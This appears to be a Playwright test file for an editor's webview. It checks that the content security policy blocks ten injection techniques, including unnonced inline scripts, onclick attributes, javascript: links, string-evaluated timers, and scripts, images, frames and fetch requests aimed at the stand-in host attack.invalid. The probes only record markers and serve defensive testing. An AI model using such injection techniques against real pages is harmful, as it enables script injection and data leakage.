import assert from 'node:assert/strict';
import type { Frame, Page } from 'playwright-core';
import type { GitRepository } from '../../support/gitRepository.ts';
import { shopRepository } from '../../support/shopRepository.ts';
import { inWindow, openCapture, sharedBrowser } from './editor.ts';

/** The ways in which text that became part of a page could run or call out. */
const attacks = [
  'a script without a nonce',
  'a script with another nonce',
  'a handler in an attribute',
  'a link to javascript',
  'a script from elsewhere',
  'text that is evaluated',
  'an image from elsewhere',
  'a frame',
  'a request',
  'a style without a nonce',
] as const;

describe('the content security policy of a webview', () => {
  let repository: GitRepository;
  beforeEach(() => {
    repository = shopRepository();
  });
  afterEach(() => repository.remove());

  it('[B41] lets nothing run, load or be sent that an attack puts into the page', async () => {
    await inWindow(repository, {}, async (window) => {
      const frame = await openCapture(window);
      assert.deepEqual(await successes(frame), []);
      // They were meant to break it.
      assert.notEqual(window.cspErrors.length, 0);
      window.cspErrors.length = 0;
    });
  });

  it('[B41] is what stops them: each succeeds in a page without one', async () => {
    const context = await sharedBrowser().newContext();
    try {
      const page = await context.newPage();
      await page.route('https://attack.invalid/**', (route) =>
        route.fulfill({
          contentType: route.request().url().endsWith('.js') ? 'text/javascript' : 'image/svg+xml',
          headers: { 'access-control-allow-origin': '*' },
          body: route.request().url().endsWith('.js')
            ? 'window.ran.push("a script from elsewhere")'
            : '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>',
        }),
      );
      await page.setContent('<main></main>');
      assert.deepEqual((await successes(page)).toSorted(), attacks.toSorted());
    } finally {
      await context.close();
    }
  });
});

/** Tries every attack in a page, and returns those that worked. */
async function successes(page: Frame | Page): Promise<string[]> {
  return page.evaluate(async () => {
    const ran: string[] = [];
    Object.assign(window, { ran });
    const add = <K extends keyof HTMLElementTagNameMap>(name: K, properties: object) => {
      const element = Object.assign(document.createElement(name), properties);
      document.body.append(element);
      return element;
    };
    /** Resolves with whether it loaded, as soon as that is known. */
    const loads = (element: HTMLElement) =>
      new Promise<boolean>((resolve) => {
        element.addEventListener('load', () => resolve(true));
        element.addEventListener('error', () => resolve(false));
      });
    const blocked = (directive: RegExp) =>
      new Promise<false>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => {
          if (directive.test(event.effectiveDirective)) {
            resolve(false);
          }
        });
      });
    const note = (worked: boolean, name: string) => void (worked && ran.push(name));
    add('script', { textContent: 'window.ran.push("a script without a nonce")' });
    add('script', { nonce: 'wrong', textContent: 'window.ran.push("a script with another nonce")' });
    const button = add('button', {});
    button.setAttribute('onclick', 'window.ran.push("a handler in an attribute")');
    button.click();
    const link = add('a', { href: 'javascript:void window.ran.push("a link to javascript")' });
    link.click();
    const far = add('script', { src: 'https://attack.invalid/remote.js' });
    await loads(far);
    const timer = blocked(/^script-src/);
    // oxlint-disable-next-line typescript/no-implied-eval -- this is the attack
    setTimeout('window.ran.push("text that is evaluated")');
    await Promise.race([timer, new Promise((resolve) => setTimeout(resolve, 50))]);
    note(await loads(add('img', { src: 'https://attack.invalid/pixel.svg' })), 'an image from elsewhere');
    const framed = add('iframe', { src: 'https://attack.invalid/page.html' });
    note(await Promise.race([loads(framed), blocked(/^(frame|child)-src$/)]), 'a frame');
    note(
      await fetch('https://attack.invalid/take.svg').then(
        () => true,
        () => false,
      ),
      'a request',
    );
    const style = add('style', { textContent: 'body { --attacked: yes }' });
    note(getComputedStyle(document.body).getPropertyValue('--attacked') === 'yes', 'a style without a nonce');
    for (const element of [button, link, far, framed, style]) {
      element.remove();
    }
    return ran;
  });
}
